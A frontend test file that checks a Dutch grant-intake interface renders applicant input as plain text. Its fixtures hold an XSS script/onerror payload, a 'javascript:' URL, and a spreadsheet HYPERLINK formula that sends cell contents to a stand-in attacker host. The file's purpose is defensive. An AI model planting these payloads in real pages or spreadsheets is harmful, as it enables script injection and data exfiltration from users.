// @vitest-environment jsdom
import { cleanup, render, screen, within } from "@testing-library/react";
import { afterEach, expect, test, vi } from "vitest";
import { Attachments } from "~/intake/Attachments";
import { PlanChanges } from "~/intake/PlanChanges";
import { PlanText } from "~/intake/PlanText";
import { StaffPlanParts } from "~/intake/StaffPlanParts";

vi.mock("@remix-run/react", () => import("../ui/remix-as-html"));
afterEach(cleanup);

const hostile = '<script>alert("x")</script> <img src=x onerror=alert(1)>';
const formula = '=HYPERLINK("https://kwaad.example/?"&A1;"klik")';

const plan = {
  id: "plan-1",
  title: hostile,
  contactName: hostile,
  email: "javascript:alert(1)",
  phone: "",
  legalForm: "Stichting",
  kvk: null,
  source: "Fonds",
  importedAt: "2021-12-01T10:00:00Z",
  attachments: ["javascript:alert(1)", formula, "https://bestanden.example/map/begroting%202022.xlsx?x=1"],
  answers: [{ header: hostile, text: formula }],
  versions: [
    {
      version: 1,
      replacedAt: "2021-12-01T10:00:00Z",
      changes: [{ field: "summary" as const, before: hostile, after: formula }],
    },
  ],
};

test("what applicants wrote stays text for staff too", () => {
  const { container } = render(<StaffPlanParts slug="ronde" plan={plan} />);
  expect(container.querySelectorAll("script, img, iframe, object, [onerror]")).toHaveLength(0);
  const links = within(container)
    .getAllByRole("link")
    .map((link) => link.getAttribute("href"));
  expect(links).toEqual([
    "https://bestanden.example/map/begroting%202022.xlsx?x=1",
    "/rounds/ronde/plans/plan-1/versions/1",
  ]);
  expect(container.textContent).toContain(hostile);
  expect(container.textContent).toContain(formula);
});

test("an attachment on the web is a link that gives nothing away; anything else is only a name", () => {
  render(<Attachments attachments={plan.attachments} />);
  const link = screen.getByRole("link");
  expect([
    link.textContent,
    link.getAttribute("rel"),
    link.getAttribute("referrerpolicy"),
    link.getAttribute("target"),
  ]).toEqual(["begroting 2022.xlsx", "noopener noreferrer nofollow", "no-referrer", "_blank"]);
  expect(screen.getAllByRole("listitem").map((item) => item.textContent)).toEqual([
    "javascript:alert(1)",
    formula,
    "begroting 2022.xlsx (op bestanden.example, opent in een nieuw venster)",
  ]);
});

test("only the words that differ are marked, and a text that is wholly new is not", () => {
  const { container } = render(
    <PlanChanges
      caption="Wat er verandert"
      changes={[
        { field: "summary", before: "Wij koken samen in de buurt", after: "Wij eten samen in de buurt" },
        { field: "learningGoal", before: "Iets", after: "Heel iets anders dan wat er eerst stond" },
        { field: "requestedCents", before: null, after: 4_950_000 },
      ]}
    />,
  );
  expect([...container.querySelectorAll("mark")].map((mark) => mark.textContent)).toEqual(["koken", "eten"]);
  expect([...container.querySelectorAll("tbody tr")].map((row) => row.textContent)).toEqual([
    "SamenvattingWij koken samen in de buurtWij eten samen in de buurt",
    "Wat willen ze leren?IetsHeel iets anders dan wat er eerst stond",
    "Gevraagd bedragniet ingevuld€\u00a049.500",
  ]);
});

test("a plan to read shows markup as text", () => {
  const readable = {
    ...{
      id: "1",
      dossierNumber: "1",
      state: "active",
      version: 1,
      submittedAt: null,
      legalForm: "",
      cofundingText: "",
    },
    ...{ title: hostile, leadApplicant: hostile, residentsInitiative: "", welfareOrganisation: "", neighbourhood: "" },
    ...{ municipality: "", summary: hostile, learningGoal: formula, residentsRole: "", activities: "" },
    ...{ startDate: null, endDate: null, totalBudgetCents: null, requestedCents: null, ownContributionCents: null },
    ...{ otherFundingCents: null, funders: [], evaluationConsent: null, shareLessons: null, committeeConsent: null },
    conditionsAccepted: null,
  };
  const { container } = render(<PlanText plan={readable} />);
  expect(container.querySelectorAll("script, img, a")).toHaveLength(0);
  expect(container.textContent).toContain(hostile);
});
